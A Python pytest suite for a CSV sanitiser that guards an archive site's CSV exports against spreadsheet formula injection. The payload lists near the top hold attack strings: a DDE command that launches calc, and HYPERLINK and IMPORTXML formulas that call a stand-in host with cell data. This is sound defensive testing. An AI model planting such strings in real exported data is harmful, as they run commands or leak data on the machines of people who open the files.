import csv
import io
import itertools
import random
from pathlib import Path

import pytest
from browsing import HARBOUR, Site, build, close, open_site, rows
from sqlite_utils import Database

from onrecord.browse.safe_csv import SafeRecords, safe_cell

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff20")
BODIES = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example","x")', "SUM(1+1)*cmd", "A1:B2"),
    *('IMPORTXML(CONCAT("http://a.example/",A1),"//a")', "-2+3", "=1", " ferry", "2026\nlines"),
    *("DDE(a;b;c)", 'a","=1+1', "é, naïve", "مرحبا", "0x10", "1,5", "1e", ".", "--1", "\x00=1"),
)
PAYLOADS = ["".join(each) for each in itertools.product(STARTS, BODIES)]
ORDINARY = (
    *("plain", "", "a=b", "1-2", "x@y.example", "He said “no”", 'with "quotes"', "two\nlines"),
    *("-0.25", "+7", "-1e-7", "-.5", "2026-03-02", "مرحبا", "Zürich, Lake", "'=kept as it is"),
)


def rewritten(text: str, size: int = 7) -> str:
    records = SafeRecords()
    sent, body = b"", text.encode()
    for at in range(0, len(body), size):
        sent += records.feed(body[at : at + size], is_last=False)
    return (sent + records.feed(b"", is_last=True)).decode()


def written(table: list[list[str]]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text).writerows(table)
    return text.getvalue()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_looks_like_a_formula_is_marked_and_nothing_else_changes(payload: str) -> None:
    ((before, cell, after),) = read(rewritten(written([["a", payload, "b"]])))
    shown = payload.replace("\x00", "␀")
    assert (before, cell, after) == ("a", f"'{shown}", "b")


@pytest.mark.parametrize("size", [1, 2, 5, 64, 10_000])
def test_ordinary_csv_stays_byte_for_byte(size: int) -> None:
    chance = random.Random(7)
    table = [[chance.choice(ORDINARY) for _ in range(4)] for _ in range(50)]
    assert rewritten(written(table), size) == written(table)


def test_controls_are_shown_as_pictures() -> None:
    assert safe_cell("a\x00b\x1b[31mc\x7f") == "a␀b␛[31mc␡"


def test_a_long_cell_is_rewritten_too() -> None:
    assert read(rewritten(written([["=" + "x" * 300_000]]), 4096)) == [["'=" + "x" * 300_000]]


def test_no_more_is_held_back_than_the_record_that_is_not_whole() -> None:
    records = SafeRecords()
    assert records.feed(b"a,b\r\n=1,", is_last=False) == b"a,b\r\n"
    assert records.feed(b'"x\r\ny"\r\n-', is_last=False) == b'\'=1,"x\r\ny"\r\n'
    assert records.feed(b"", is_last=True) == b"'-\r\n"


@pytest.fixture
def site(tmp_path: Path) -> Site:
    tables = rows()
    for each in tables["statements"]:
        if each["id"] == HARBOUR:
            each["title"], each["speaker"] = "=1+1", "@SUM(1)"
    path = build(tmp_path / "archive.db", tables)
    db = Database(path)
    db.execute("UPDATE statements SET tone = -0.25")
    db.conn.commit()
    db.close()
    return open_site(path)


@pytest.mark.parametrize(
    "path",
    [
        "/archive/statements.csv",
        "/archive/statements.csv?_stream=on",
        "/archive/statements.csv?_dl=1",
        "/archive/statements.csv?_labels=on&_size=max",
        "/archive.csv?sql=select+id,title,speaker,tone+from+statements",
    ],
)
def test_every_csv_of_the_site_is_safe(site: Site, path: str) -> None:
    answer = site.get(path)
    table = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    (harbour,) = [each for each in table if each["id"] == HARBOUR]
    assert (harbour["title"], harbour["speaker"]) == ("'=1+1", "'@SUM(1)")
    assert harbour["tone"] == "-0.25"
    close(site)


def test_json_and_plain_text_are_left_alone(site: Site) -> None:
    found = site.get("/archive/statements.json?_shape=array").json()
    assert "=1+1" in [each["title"] for each in found]
    close(site)
